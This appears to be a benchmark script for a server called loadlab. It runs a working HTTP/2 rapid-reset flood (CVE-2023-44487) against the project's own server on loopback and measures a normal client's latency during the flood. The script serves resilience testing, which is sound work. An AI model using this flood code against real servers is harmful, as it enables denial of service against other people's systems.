#!/usr/bin/env python3
"""Rapid-reset flood (CVE-2023-44487) against a loadlab front, with a polite client's
latency measured alongside.

Two flooding clients open h2c streams (HEADERS for GET /healthz) and reset each at once
(RST_STREAM CANCEL), many per write; when the server answers GOAWAY they reconnect and
go on, for DURATION seconds. Meanwhile `wrk --latency` sends /healthz over HTTP/1.1
keep-alive (4 connections) and reports its percentiles. Loopback only.

Usage: benches/rapid-reset.py [--duration 4] [--port 4400]
Starts `target/release/loadlab serve --shards 2 --front-threads 1` itself (build it
first: `cargo build --release`); needs wrk.
"""

import argparse
import os
import re
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time
import urllib.request

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, GOAWAY = 0x1, 0x3, 0x4, 0x7
CANCEL = 0x8
# :method GET, :scheme http (indexed), :path /healthz (literal, indexed name).
BLOCK = bytes([0x82, 0x86, 0x04, 8]) + b"/healthz"


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def flood(port, deadline, stats):
    """Floods until `deadline`, reconnecting after each GOAWAY or close."""
    while time.monotonic() < deadline:
        sock = socket.create_connection(("127.0.0.1", port))
        sock.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
        stop = threading.Event()

        def read():
            buf = b""
            try:
                while not stop.is_set():
                    data = sock.recv(65536)
                    if not data:
                        break
                    buf += data
                    while len(buf) >= 9:
                        length = int.from_bytes(buf[:3], "big")
                        if len(buf) < 9 + length:
                            break
                        if buf[3] == GOAWAY:
                            stats["goaway"] += 1
                            stop.set()
                        buf = buf[9 + length:]
            except OSError:
                pass
            stop.set()

        reader = threading.Thread(target=read, daemon=True)
        reader.start()
        stream = 1
        try:
            while not stop.is_set() and time.monotonic() < deadline:
                batch = b"".join(
                    frame(HEADERS, 0x5, s, BLOCK) + frame(RST_STREAM, 0, s, struct.pack(">I", CANCEL))
                    for s in range(stream, stream + 100, 2)
                )
                stream += 100
                sock.sendall(batch)
                stats["streams"] += 50
        except OSError:
            pass
        stop.set()
        sock.close()
        reader.join(timeout=1)
        stats["connections"] += 1


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--duration", type=float, default=4)
    parser.add_argument("--port", type=int, default=4400)
    args = parser.parse_args()
    binary = os.path.join(ROOT, "target/release/loadlab")
    with tempfile.TemporaryDirectory() as tmp:
        server = subprocess.Popen(
            [binary, "serve", "--shards", "2", "--front-threads", "1",
             "--bind", f"127.0.0.1:{args.port}", "--shard-base-port", str(args.port + 1),
             "--db", os.path.join(tmp, "mega.db")],
            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        try:
            url = f"http://127.0.0.1:{args.port}/healthz"
            for _ in range(200):
                try:
                    urllib.request.urlopen(url, timeout=1)
                    break
                except OSError:
                    time.sleep(0.05)
            load_before = os.getloadavg()
            seconds = f"{int(args.duration)}s"
            quiet = subprocess.run(["wrk", "-t1", "-c4", "-d", seconds, "--latency", url],
                                   capture_output=True, text=True).stdout
            stats = {"goaway": 0, "streams": 0, "connections": 0}
            deadline = time.monotonic() + args.duration
            floods = [threading.Thread(target=flood, args=(args.port, deadline, stats)) for _ in range(2)]
            for f in floods:
                f.start()
            loaded = subprocess.run(["wrk", "-t1", "-c4", "-d", seconds, "--latency", url],
                                    capture_output=True, text=True).stdout
            for f in floods:
                f.join()
            alive = server.poll() is None
            load_after = os.getloadavg()
        finally:
            server.terminate()
            server.wait(timeout=30)

    def summary(out):
        pct = dict(re.findall(r"^\s+(50|99)%\s+(\S+)", out, re.M))
        rps = re.search(r"Requests/sec:\s+(\S+)", out)
        return f"p50 {pct.get('50')}, p99 {pct.get('99')}, {rps.group(1) if rps else '?'} req/s"

    print(f"polite client alone:       {summary(quiet)}")
    print(f"polite client under flood: {summary(loaded)}")
    print(f"flood: {stats['streams']} streams opened and reset over {stats['connections']} "
          f"connections, {stats['goaway']} GOAWAYs; server still up: {alive}")
    print("load average (1, 5, 15 min): before %.2f %.2f %.2f, after %.2f %.2f %.2f"
          % (*load_before, *load_after))
    return 0 if alive else 1


if __name__ == "__main__":
    sys.exit(main())
